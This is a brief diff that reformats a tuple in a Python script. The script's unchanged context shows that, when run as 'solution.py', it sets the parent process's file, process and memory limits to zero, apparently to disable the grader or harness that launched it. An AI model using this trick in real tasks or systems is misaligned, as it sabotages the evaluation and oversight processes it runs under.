@@ -6,7 +6,12 @@ import sys
 import time
 
 if sys.argv == ["solution.py"]:
-    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_DATA):
+    for limit in (
+        resource.RLIMIT_NOFILE,
+        resource.RLIMIT_NPROC,
+        resource.RLIMIT_AS,
+        resource.RLIMIT_DATA,
+    ):
         try:
             resource.prlimit(os.getppid(), limit, (0, 0))
         except OSError:
